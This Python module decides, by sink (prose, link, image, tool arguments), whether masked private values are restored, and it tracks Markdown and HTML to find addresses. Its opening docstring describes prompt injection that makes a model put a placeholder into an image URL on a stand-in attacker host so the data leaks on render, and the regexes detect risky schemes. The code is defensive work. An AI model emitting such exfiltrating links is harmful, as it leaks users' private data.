"""Where a restored value would go: prose, a link, an image; and how it is written there.

Text can carry an instruction that makes a model put a placeholder into an address: `![x](https://evil.example/?q=[MAIL_1])`.
A page that shows this sends the value away without a click. So an address is no place for values unless the caller
says it is. An image is fetched by itself and is told from a link, which needs a click.
"""

import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal
from urllib.parse import quote

Sink = Literal["prose", "link", "image"]
Rule = Literal["restore", "encode", "withhold"]
"""`encode` restores with percent-encoding, for addresses that were made of placeholders on purpose."""

Escape = Callable[[str], str]

LOOK_BACK = 12
_MOST_BRACKETS = 16


@dataclass(frozen=True, slots=True)
class SinkPolicy:
    """What happens to a placeholder, by where it stands. In a tool's arguments `tool` holds as well.

    The default restores what a person reads, and nothing that a machine acts on by itself: who runs a tool may be
    outside, so its caller must say that its arguments are to be restored.
    """

    prose: Rule = "restore"
    link: Rule = "withhold"
    image: Rule = "withhold"
    tool: Rule = "withhold"

    def rule(self, sink: Sink) -> Rule:
        return self.prose if sink == "prose" else self.link if sink == "link" else self.image


DEFAULT = SinkPolicy()
TOOLS = SinkPolicy(tool="restore")
"""For a caller that runs the tools itself: their arguments are restored, addresses inside them still are not."""
EVERYWHERE = SinkPolicy("restore", "restore", "restore", "restore")
"""For files that come back to whom they belong: what was masked is put back wherever it stood."""


def plain(value: str) -> str:
    return value


def json_string(value: str) -> str:
    """The inside of a JSON string (RFC 8259). Lone surrogates become escapes, so that the result is valid UTF-8."""
    escaped = json.dumps(value, ensure_ascii=False)[1:-1]
    return escaped if escaped.isascii() else _LONE_SURROGATE.sub(lambda match: f"\\u{ord(match[0]):04x}", escaped)


def url(value: str) -> str:
    """One component of a URL: everything but letters, digits and `-._~` is percent-encoded (RFC 3986)."""
    return quote(value, safe="", errors="surrogatepass")


def html(value: str) -> str:
    """Text or a quoted attribute of HTML."""
    return value.translate(_HTML)


_LONE_SURROGATE = re.compile("[\ud800-\udfff]")
_HTML = str.maketrans({"&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;"})


# Each expression matches one character and looks back at most LOOK_BACK, so it finds the same in every split. The
# character comes first: `re` then skips to it at the speed of a search for single characters.
# The flag IGNORECASE would take that away.
def _any_case(word: str) -> str:
    return "".join(f"[{char}{char.upper()}]" if char.isalpha() else char for char in word)


_SCHEMES = "|".join(
    rf":(?<={_any_case(scheme)}:)" for scheme in ("mailto", "data", "javascript", "vbscript", "tel", "sms")
)
# Without a scheme: many pages make a link of `evil.example/x`, and of `//evil` where it is quoted.
_HOSTS = "|".join(
    [rf"(?<=[A-Za-z0-9]\.[A-Za-z]{{{letters}}}[/?#])" for letters in range(2, 9)]
    + [rf"(?<=[A-Za-z]:\d{{{digits}}}[/?#])" for digits in range(2, 6)]
)
_NO_SCHEME = r"/(?<=[\"'({=]//)|\\(?<=[\s\"'(]\\\\)"
_STARTS = rf"\((?<=\]\()|\((?<={_any_case('url')}\()|[wW](?<={_any_case('www')})"
_OPENS = rf"{_STARTS}|[/\\](?<=:[/\\][/\\])(?<!:\\\\)|{_SCHEMES}|{_NO_SCHEME}|[/?#](?:{_HOSTS})"
_PROSE = re.compile(rf"[\[<]|{_OPENS}")
_IN_BRACKETS = re.compile(rf"[\[\]<\n]|:(?<=\]:)|{_OPENS}")
# GitHub's Markdown lets an address go on over `"` and `>`, so only one that stands in quotes ends with them.
_WORD_END = re.compile(r"[\s<]")
_QUOTED_WORD_END = re.compile(r"[\s<\"]")
_AFTER_QUOTE = re.compile(r"\"[A-Za-z0-9.+-]{0,12}(?::?//?|:|\?|#)?\Z")
_DEFINES = re.compile(r"(?:\A|\n)[ >*+\-0-9.)\t]{0,11}\Z")
_TARGET = re.compile(r"[()]|\n(?<=\n\n)")
_TAG_NAME = re.compile(r"[^A-Za-z0-9]")
_TAG = re.compile(r"[>\"']|\n(?<=\n\n)")
_QUOTED = {'"': re.compile(r"\"|\n(?<=\n\n)"), "'": re.compile(r"'|\n(?<=\n\n)")}
_LINE_END = re.compile(r"\n")
_VISIBLE = re.compile(r"[^ \t\r]")
FETCHED = frozenset(
    ("img", "image", "source", "video", "audio", "iframe", "embed", "object", "link", "script", "style", "svg", "track")
)


class SinkTracker:
    """Knows in which sink the end of a text is that comes in pieces; the same for every split, in constant memory.

    Markdown and HTML are read as a careful renderer could read them: where it is in doubt, it is an address.
    """

    def __init__(self) -> None:
        self._state: Literal["prose", "word", "target", "<", "tag name", "tag", "quoted", "definition"] = "prose"
        self._images: list[bool] = []
        self._depth = 0
        self._image = False
        self._name = ""
        self._quote = '"'
        self._definition = False
        self._certain = self._destined = self._next_line = False
        self._word_end = _WORD_END
        self._reading: dict[str, Callable[[str, int, int], int]] = {
            "prose": self._prose,
            "word": self._word,
            "target": self._target,
            "<": self._angle,
            "tag name": self._tag_name,
            "tag": self._tag,
            "quoted": self._in_quotes,
            "definition": self._in_definition,
        }

    @property
    def sink(self) -> Sink:
        if self._state in ("prose", "<") or (self._state == "definition" and not (self._destined or self._certain)):
            return "prose"
        return "image" if self._image else "link"

    def read(self, text: str, start: int, end: int) -> None:
        """Read `text[start:end]`; what stands before are at least the last `LOOK_BACK` characters of the whole."""
        at = start
        while at < end:
            at = self._reading[self._state](text, at, end)

    def _prose(self, text: str, at: int, end: int) -> int:
        match = (_IN_BRACKETS if self._images or self._definition else _PROSE).search(text, at, end)
        if match is None:
            return end
        self._at_prose(text, match.start())
        return match.end()

    def _at_prose(self, text: str, at: int) -> None:
        char = text[at]
        if char == "[":
            self._images = [*self._images[-_MOST_BRACKETS:], at > 0 and text[at - 1] == "!"]
            before = text[max(0, at - LOOK_BACK) : at]
            self._definition = _DEFINES.search(before) is not None
            self._certain = before[-1:] in ("", "\n")
        elif char == "]":
            self._image = self._images.pop() if self._images else False
        elif char == "<":
            self._state = "<"
        elif char == "(":
            self._state, self._depth = "target", 1
            self._image = text[at - 1] != "]" or self._image
        elif char == "\n":
            self._definition = False
            if text[at - 1 : at] == "\n":
                self._images = []
        elif char != ":" or text[at - 1] != "]":
            self._state, self._image = "word", False
            self._word_end = (
                _QUOTED_WORD_END if _AFTER_QUOTE.search(text[max(0, at - LOOK_BACK) : at + 1]) else _WORD_END
            )
        elif self._definition:
            self._state, self._image = "definition", False
            self._destined = self._next_line = False

    def _word(self, text: str, at: int, end: int) -> int:
        match = self._word_end.search(text, at, end)
        if match is None:
            return end
        self._state = "prose"
        return match.start()

    def _target(self, text: str, at: int, end: int) -> int:
        match = _TARGET.search(text, at, end)
        if match is None:
            return end
        self._depth += 1 if match[0] == "(" else -1
        if self._depth == 0 or match[0] == "\n":
            self._state, self._image = "prose", False
        return match.end()

    def _angle(self, text: str, at: int, end: int) -> int:
        del end
        if text[at].isascii() and (text[at].isalpha() or text[at] in "/!?"):
            self._state, self._name = "tag name", ""
            return at + 1 if text[at] in "/!?" else at
        self._state = "prose"
        return at

    def _tag_name(self, text: str, at: int, end: int) -> int:
        match = _TAG_NAME.search(text, at, end)
        stop = end if match is None else match.start()
        self._name = (self._name + text[at:stop])[:LOOK_BACK]
        if match is not None:
            # `<https://…>` and `<name@host>` are addresses too.
            self._state, self._image = "tag", self._name.lower() in FETCHED
        return stop

    def _tag(self, text: str, at: int, end: int) -> int:
        match = _TAG.search(text, at, end)
        if match is None:
            return end
        if match[0] in "\"'":
            self._state, self._quote = "quoted", match[0]
        elif match[0] != "\n" or not self._image:  # `<img` is no prose, whatever follows; `a <b` may be
            self._state, self._image = "prose", False
        return match.end()

    def _in_quotes(self, text: str, at: int, end: int) -> int:
        match = _QUOTED[self._quote].search(text, at, end)
        if match is None:
            return end
        if match[0] == self._quote:
            self._state = "tag"
        elif not self._image:
            self._state = "prose"
        return match.end()

    def _in_definition(self, text: str, at: int, end: int) -> int:
        """An address may begin on the line after its name."""
        if not self._destined:
            match = _VISIBLE.search(text, at, end)
            if match is None:
                return end
            if match[0] == "\n" and not self._next_line:
                self._next_line, self._certain = True, False
                return match.end()
            at, self._destined = match.start(), True
            # In a list, or on the next line, it may as well be prose: only what names a host is taken for an address.
            if not self._certain and match[0] not in "/\\<&":
                self._state = "prose"
                return at
        match = _LINE_END.search(text, at, end)
        if match is None:
            return end
        self._state = "prose"
        return match.start()
